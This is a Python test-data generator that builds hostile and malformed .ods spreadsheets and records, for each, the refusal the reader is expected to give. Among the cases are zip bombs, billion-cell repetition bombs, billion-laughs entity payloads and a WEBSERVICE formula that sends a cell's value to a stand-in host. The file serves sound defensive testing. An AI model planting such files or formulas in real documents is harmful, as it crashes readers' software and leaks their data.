# ruff: noqa: E501
"""Write the corpus of hostile and broken .ods inputs (tests/data/hostile/ods/).

Run ``python tests/data/make_hostile_ods.py``; the output is deterministic
and committed, with ``expected.json``: for each file, whether the program
refuses it and the phrases its one-line message holds. Every file is
smaller than 200 KB. tests/test_hostile_ods.py runs each through
``evaluate``, ``export``, ``import`` and the window. The zip-level helpers
(packing with fixed times, editing a zip's headers) are the .xlsx corpus's
(tests/data/make_hostile_xlsx.py).
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import make_hostile_xlsx as hostile_xlsx
from make_hostile_xlsx import LAUGHS, book, pack, patch

OUT = Path(__file__).resolve().parent / "hostile" / "ods"
DECL = '<?xml version="1.0" encoding="UTF-8"?>'
NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"')
MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"
MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>{extra}'
            "</manifest:manifest>")


def text(value: str, attrs: str = "") -> str:
    return f'<table:table-cell{attrs} office:value-type="string"><text:p>{value}</text:p></table:table-cell>'


def number(value: float, attrs: str = "") -> str:
    return f'<table:table-cell{attrs} office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'


def row(*cells: str, attrs: str = "") -> str:
    return f"<table:table-row{attrs}>" + "".join(cells) + "</table:table-row>"


def rows(*, query3: str = text("q1"), grade3: str = number(0), extra: str = "") -> str:
    """An annotators' sheet: a header and two judgments of q1."""
    return (row(text("query"), text("doc"), text("grade"))
            + row(text("q1"), text("d1"), number(2))
            + row(query3, text("d2"), grade3) + extra)


def content(tables: str, *, before: str = "") -> str:
    return (f"{DECL}{before}<office:document-content {NS}><office:body><office:spreadsheet>"
            f"{tables}</office:spreadsheet></office:body></office:document-content>")


def table(body: str, name: str = "Judgments") -> str:
    return f'<table:table table:name="{name}">{body}</table:table>'


def ods(xml: str | bytes | None = None, *, mimetype: bytes = MIMETYPE, manifest_extra: str = "",
        extra: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """An .ods package: the mimetype first and stored, the manifest, content.xml."""
    xml = content(table(rows())) if xml is None else xml
    parts: list[tuple[str, bytes]] = [
        ("mimetype", mimetype),
        ("META-INF/manifest.xml", MANIFEST.format(extra=manifest_extra).encode()),
        ("content.xml", xml.encode() if isinstance(xml, str) else xml),
        *(extra or {}).items(),
    ]
    return pack([(n, d) for n, d in parts if n not in drop])


GOOD = ods()
#: A formula whose evaluation would reach out (never evaluated: refused where data belongs).
WEB = 'table:formula="of:=WEBSERVICE(&quot;http://example.invalid/?&quot;&amp;[.A3])"'


def _raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def content_bomb() -> bytes:
    """content.xml padded with 12 MiB of blanks inside the table: packs about 1000:1."""
    xml = content(table(rows()))
    cut = xml.index("</table:table>")
    return ods(xml[:cut] + " " * (12 * 1024**2) + xml[cut:])


def repeated_bomb() -> bytes:
    """A few bytes declaring a billion cells: one valued cell repeated 16,000
    columns wide, its row repeated 1,000,000 times."""
    bomb = row(number(1, ' table:number-columns-repeated="16000"'),
               attrs=' table:number-rows-repeated="1000000"')
    return ods(content(table(rows(extra=bomb))))


def far_cell() -> bytes:
    """A value past 1,000,000 empty rows and 16,000 empty columns: the used area a reader allocates."""
    empty = '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="3"/></table:table-row>'
    far = row('<table:table-cell table:number-columns-repeated="16000"/>', number(1))
    return ods(content(table(rows(extra=empty + far))))


def nested_table() -> bytes:
    inner = table(row(number(1)) * 3, name="Inner")
    cell = f"<table:table-cell>{inner}</table:table-cell>"
    return ods(content(table(rows(extra=row(text("q1"), text("d3"), cell)))))


def xlsx_named_ods() -> bytes:
    return pack(book())


def encrypted() -> bytes:
    entry = ('<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
             '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
             "</manifest:file-entry>")
    return ods(b"\x8f\x11\xa7\x03" * 200, manifest_extra=entry)


CASES: hostile_xlsx.Cases = {
    "good.ods": (_raw(GOOD), False, ()),
    "merged_and_repeated.ods": (lambda: ods(content(table(
        row(text("query"), text("doc"), text("grade"), text("note"))
        + row(text("q1", ' table:number-rows-spanned="2"'), text("d1"), number(2), '<table:table-cell table:number-columns-repeated="1"/>')
        + row("<table:covered-table-cell/>", text("d2"), number(0))
        + row(text("q2"), text("d1"), number(1, ' table:number-columns-repeated="1"'))
        + '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'))), False, ()),
    "two_sheets.ods": (lambda: ods(content(table(row(text("just notes"))) + table(rows(), name="Ratings"))), False, ()),
    # the file and its zip
    "not_zip.ods": (lambda: b"query,doc,grade\nq1,d1,2\n", True, ("a text file, not an .ods workbook", "rename it to .csv")),
    "truncated_half.ods": (lambda: GOOD[: len(GOOD) // 2], True, ("damaged or truncated",)),
    "zip_encrypted_flag.ods": (lambda: patch(GOOD, "content.xml", flag=1), True, ("encrypted", "without a password")),
    "content_bomb.ods": (content_bomb, True, ("content.xml", "zip bomb")),
    # the package
    "xlsx_named_ods.ods": (xlsx_named_ods, True, (".xlsx workbook under an .ods name", "rename it")),
    "text_document.ods": (lambda: ods(mimetype=b"application/vnd.oasis.opendocument.text"), True, ("not an OpenDocument spreadsheet", "opendocument.text")),
    "no_mimetype.ods": (lambda: ods(drop=("mimetype",)), True, ("not an OpenDocument spreadsheet",)),
    "no_content.ods": (lambda: ods(drop=("content.xml",)), True, ("no content.xml",)),
    "encrypted.ods": (encrypted, True, ("encrypted", "without a password")),
    "content_laughs.ods": (lambda: ods(content(table(rows()), before=LAUGHS)), True, ("content.xml", "billion laughs")),
    "styles_laughs.ods": (lambda: ods(extra={"styles.xml": (DECL + LAUGHS + "<office:document-styles/>").encode()}), True, ("styles.xml", "billion laughs")),
    "content_utf16.ods": (lambda: ods(content(table(rows())).replace("UTF-8", "UTF-16").encode("utf-16")), True, ("content.xml", "UTF-16")),
    # the sheets
    "repeated_bomb.ods": (repeated_bomb, True, ("repeated cells counted", "too many to read safely")),
    "far_cell.ods": (far_cell, True, ("repeated cells counted",)),
    "nested_table.ods": (nested_table, True, ("table inside",)),
    "no_sheets.ods": (lambda: ods(content("")), True, ("has no sheets",)),
    # cells: formulas are never evaluated; where data belongs they are refused
    "formula_query.ods": (lambda: ods(content(table(rows(query3=f'<table:table-cell {WEB} office:value-type="string" office:string-value="q1"><text:p>q1</text:p></table:table-cell>')))), True, ("A3", "formula")),
    "formula_grade.ods": (lambda: ods(content(table(rows(grade3=f'<table:table-cell {WEB} office:value-type="float" office:value="3"><text:p>3</text:p></table:table-cell>')))), True, ("row 3", "C3", "formula", "never evaluated")),
}


def build() -> dict[str, bytes]:
    """Every corpus file and ``expected.json``."""
    return hostile_xlsx.build(CASES)


if __name__ == "__main__":
    hostile_xlsx.write(OUT, CASES)
